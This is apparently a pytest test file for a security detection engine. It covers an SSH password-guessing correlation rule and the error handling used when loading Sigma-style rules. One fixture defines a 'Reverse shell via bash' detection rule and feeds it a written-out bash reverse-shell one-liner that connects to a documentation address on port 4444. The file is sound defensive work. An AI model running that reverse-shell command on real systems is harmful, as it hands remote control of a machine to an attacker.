"""DetectionEngine end to end: loading (with broken files) and the shipped SSH rule."""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

import pytest

from canhgac.v1 import alert_pb2
from canhgac.v1 import events_pb2 as pb
from collector.detection.engine import DetectionEngine

ROOT = Path(__file__).resolve().parents[3]
SSH_RULES = ROOT / "rules" / "linux" / "auth" / "ssh_password_guessing.yml"
GUESSING_ID = "fa6ca2bf-9cda-4489-9e0f-85474f98762d"
S = 1_000_000_000
T0 = 1_700_000_000 * S
NOW = T0 + 3600 * S

_seq = iter(range(1_000_000))


def failed_login(
    t: int,
    ip: str = "203.0.113.7",
    *,
    action: str = "ssh_login",
    outcome: pb.Outcome.ValueType = pb.OUTCOME_FAILURE,
    method: str = "password",
    agent: str = "agent-1",
    **auth: Any,
) -> pb.Event:
    return pb.Event(
        id=f"ev{next(_seq)}",
        time_ns=t,
        agent_id=agent,
        host="web1",
        category="authentication",
        action=action,
        outcome=outcome,
        source="authlog",
        auth=pb.AuthEvent(user="root", source_ip=ip, method=method, process_name="sshd", **auth),
    )


@pytest.fixture
def engine() -> DetectionEngine:
    eng, result = DetectionEngine.from_paths([SSH_RULES], clock_ns=lambda: NOW)
    assert result.errors == []
    assert result.loaded == 2
    return eng


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text))
    return path


# --- the shipped SSH password-guessing rule ---------------------------------------------------


def test_five_failures_in_a_minute_raise_one_alert(engine: DetectionEngine) -> None:
    events = [failed_login(T0 + i * 10 * S) for i in range(5)]
    alerts = engine.process(events)
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert.rule_id == GUESSING_ID
    assert alert.rule_title == "SSH password guessing from one address"
    assert alert.severity == alert_pb2.SEVERITY_HIGH
    assert dict(alert.group) == {"source.ip": "203.0.113.7"}
    assert list(alert.event_ids) == [ev.id for ev in events]
    assert alert.event_count == 5
    assert (alert.first_seen_ns, alert.last_seen_ns) == (T0, T0 + 40 * S)
    assert (alert.agent_id, alert.host) == ("agent-1", "web1")
    assert alert.category == "unauthorized_access"
    assert list(alert.mitre_techniques) == ["T1110.001"]
    assert alert.summary == "5 failed SSH logins from 203.0.113.7 within 60 s"
    assert alert.created_ns == NOW
    assert len(alert.id) == 26


def test_four_failures_raise_nothing(engine: DetectionEngine) -> None:
    assert engine.process([failed_login(T0 + i * S) for i in range(4)]) == []


def test_five_failures_over_two_minutes_raise_nothing(engine: DetectionEngine) -> None:
    assert engine.process([failed_login(T0 + i * 30 * S) for i in range(5)]) == []


def test_five_failures_from_five_addresses_raise_nothing(engine: DetectionEngine) -> None:
    assert engine.process([failed_login(T0 + i * S, f"198.51.100.{i}") for i in range(5)]) == []


def test_interleaved_sources_are_counted_apart(engine: DetectionEngine) -> None:
    events = []
    for i in range(5):
        events.append(failed_login(T0 + i * S, "203.0.113.7"))
        events.append(failed_login(T0 + i * S, "198.51.100.9"))
    events.insert(3, failed_login(T0, "192.0.2.1"))  # a third, too-small group in between
    alerts = engine.process(events)
    assert sorted(a.group["source.ip"] for a in alerts) == ["198.51.100.9", "203.0.113.7"]
    assert all(a.event_count == 5 for a in alerts)


def test_state_carries_across_batches(engine: DetectionEngine) -> None:
    assert engine.process([failed_login(T0 + i * S) for i in range(3)]) == []
    assert len(engine.process([failed_login(T0 + (3 + i) * S) for i in range(2)])) == 1


def test_a_continuing_attack_is_alerted_once_per_window(engine: DetectionEngine) -> None:
    alerts = engine.process([failed_login(T0 + i * S // 2) for i in range(100)])  # 2/s, 50 s
    assert len(alerts) == 1


def test_invalid_user_attempt_is_counted_once(engine: DetectionEngine) -> None:
    # sshd logs "Invalid user" and then "Failed password for invalid user" for one attempt.
    events = []
    for i in range(4):
        events.append(failed_login(T0 + i * S, action="ssh_invalid_user"))
        events.append(failed_login(T0 + i * S, user_invalid=True))
    assert engine.process(events) == []
    assert len(engine.process([failed_login(T0 + 5 * S, user_invalid=True)])) == 1


def test_successes_and_publickey_failures_do_not_count(engine: DetectionEngine) -> None:
    events = [failed_login(T0 + i * S, outcome=pb.OUTCOME_SUCCESS) for i in range(5)]
    events += [failed_login(T0 + i * S, method="publickey") for i in range(5)]
    events += [failed_login(T0 + i * S, method="none") for i in range(5)]
    assert engine.process(events) == []


def test_folded_syslog_repeats_count(engine: DetectionEngine) -> None:
    alerts = engine.process([failed_login(T0), failed_login(T0 + S, repeat_count=4)])
    assert [a.event_count for a in alerts] == [5]


def test_same_address_on_two_hosts_is_two_groups(engine: DetectionEngine) -> None:
    events = [failed_login(T0 + i * S, agent=f"agent-{i % 2}") for i in range(6)]
    assert engine.process(events) == []


def test_group_bound_is_respected_and_counted() -> None:
    eng, _ = DetectionEngine.from_paths([SSH_RULES], clock_ns=lambda: NOW, max_groups=3)
    eng.process([failed_login(T0 + i, f"10.0.0.{i}") for i in range(10)])
    (state,) = eng.correlations
    assert len(state) == 3
    assert state.evictions == 7


def test_other_categories_do_not_reach_the_rule(engine: DetectionEngine) -> None:
    ev = failed_login(T0)
    ev.category = "process"
    assert engine.process([ev] * 5) == []
    (state,) = engine.correlations
    assert len(state) == 0


# --- stand-alone rules and loading ------------------------------------------------------------

SINGLE = """\
    title: Reverse shell via bash
    id: 1d2c3b4a-0000-4000-8000-000000000001
    level: critical
    tags: [attack.execution, attack.t1059.004]
    logsource: {product: linux, category: process_creation}
    detection:
      sel:
        CommandLine|contains: /dev/tcp/
      condition: sel
    """


def process_event(t: int, command_line: str) -> pb.Event:
    return pb.Event(
        id=f"p{next(_seq)}",
        time_ns=t,
        agent_id="agent-1",
        host="db1",
        category="process",
        type="start",
        process=pb.ProcessEvent(pid=1, executable="/bin/bash", command_line=command_line),
    )


def test_unreferenced_base_rule_alerts_per_event(tmp_path: Path) -> None:
    write(tmp_path, "shell.yml", SINGLE)
    eng, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert (result.loaded, result.errors) == (1, [])
    hit = process_event(T0, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    alerts = eng.process([hit, process_event(T0, "ls -la"), hit])
    assert len(alerts) == 2
    alert = alerts[0]
    assert alert.severity == alert_pb2.SEVERITY_CRITICAL
    assert list(alert.event_ids) == [hit.id]
    assert alert.event_count == 1
    assert alert.category == "malware"
    assert list(alert.mitre_techniques) == ["T1059.004"]
    assert alert.summary == "Reverse shell via bash on db1"


def test_generate_true_lets_the_base_rule_alert_too(tmp_path: Path) -> None:
    text = SSH_RULES.read_text().replace("    gte: 5\n", "    gte: 5\n  generate: true\n")
    write(tmp_path, "ssh.yml", text)
    eng, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert result.errors == []
    alerts = eng.process([failed_login(T0 + i * S) for i in range(5)])
    assert len(alerts) == 6
    assert alerts[0].severity == alert_pb2.SEVERITY_LOW


def test_broken_yaml_next_to_a_good_rule(tmp_path: Path) -> None:
    write(tmp_path, "good.yml", SINGLE)
    bad = write(tmp_path, "sub/bad.yaml", "title: broken\ndetection: [unclosed\n")
    eng, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert result.loaded == 1
    assert len(result.errors) == 1
    error = result.errors[0]
    assert error.path == str(bad)
    assert "invalid YAML: line" in error.message
    assert len(eng.process([process_event(T0, "x /dev/tcp/1.2.3.4/1")])) == 1


@pytest.mark.parametrize(
    ("text", "rule_id", "reason"),
    [
        (  # Sigma schema error
            "title: no detection\nid: 1d2c3b4a-0000-4000-8000-000000000002\n"
            "logsource: {product: linux}\n",
            "1d2c3b4a-0000-4000-8000-000000000002",
            "detection",
        ),
        (  # compiler refusal
            "title: wide\nid: 1d2c3b4a-0000-4000-8000-000000000003\n"
            "logsource: {product: linux}\n"
            "detection: {sel: {process.name|utf16: x}, condition: sel}\n",
            "1d2c3b4a-0000-4000-8000-000000000003",
            "unsupported modifier 'utf16'",
        ),
        (  # pipeline refusal
            "title: win\nid: 1d2c3b4a-0000-4000-8000-000000000004\n"
            "logsource: {product: windows, category: process_creation}\n"
            "detection: {sel: {Image: x}, condition: sel}\n",
            "1d2c3b4a-0000-4000-8000-000000000004",
            "product is not supported",
        ),
        (  # not a mapping
            "- just\n- a list\n",
            "",
            "not a mapping",
        ),
        (  # bad summary placeholder
            "title: t\nid: 1d2c3b4a-0000-4000-8000-000000000005\n"
            "canhgac.summary: 'from {source.ipp}'\n"
            "logsource: {product: linux}\n"
            "detection: {sel: {user.name: x}, condition: sel}\n",
            "1d2c3b4a-0000-4000-8000-000000000005",
            "unknown placeholder '{source.ipp}'",
        ),
    ],
)
def test_bad_rules_are_reported_and_skipped(
    tmp_path: Path, text: str, rule_id: str, reason: str
) -> None:
    write(tmp_path, "good.yml", SINGLE)
    bad = write(tmp_path, "bad.yml", text)
    _, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert result.loaded == 1
    assert [(e.path, e.rule_id) for e in result.errors] == [(str(bad), rule_id)]
    assert reason in result.errors[0].message


def test_unsupported_correlation_type_is_reported(tmp_path: Path) -> None:
    text = (
        SSH_RULES.read_text()
        .replace("  type: event_count\n", "  type: value_sum\n")
        .replace("    gte: 5\n", "    gte: 5\n    field: user.name\n")
    )
    write(tmp_path, "ssh.yml", text)
    _, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert [(e.rule_id, e.message) for e in result.errors] == [
        (GUESSING_ID, "unsupported correlation type 'value_sum'")
    ]
    assert result.loaded == 0  # the base rule only existed to feed it


def test_correlation_with_unknown_reference_is_reported(tmp_path: Path) -> None:
    text = SSH_RULES.read_text().replace("    - canhgac_ssh_failed_login\n", "    - nope\n")
    write(tmp_path, "ssh.yml", text)
    _, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert [e.message for e in result.errors] == ["references unknown base rule 'nope'"]


def test_duplicate_rule_id_is_reported(tmp_path: Path) -> None:
    write(tmp_path, "a.yml", SINGLE)
    dup = write(tmp_path, "b.yml", SINGLE)
    _, result = DetectionEngine.from_paths([tmp_path], clock_ns=lambda: NOW)
    assert result.loaded == 1
    assert [(e.path, e.message.split(",")[0]) for e in result.errors] == [
        (str(dup), "duplicate rule id")
    ]


def test_missing_rule_path_is_reported(tmp_path: Path) -> None:
    _, result = DetectionEngine.from_paths([tmp_path / "nope"], clock_ns=lambda: NOW)
    assert result.loaded == 0
    assert [e.message for e in result.errors] == ["no such rule file or directory"]


def test_shipped_rules_all_load() -> None:
    _, result = DetectionEngine.from_paths([ROOT / "rules"], clock_ns=lambda: NOW)
    assert result.errors == []
    assert result.loaded >= 2


def test_reload_replaces_rules_and_state(engine: DetectionEngine) -> None:
    engine.process([failed_login(T0 + i * S) for i in range(4)])
    assert engine.load([SSH_RULES]).loaded == 2
    assert engine.process([failed_login(T0 + 5 * S)]) == []  # the four earlier ones are gone
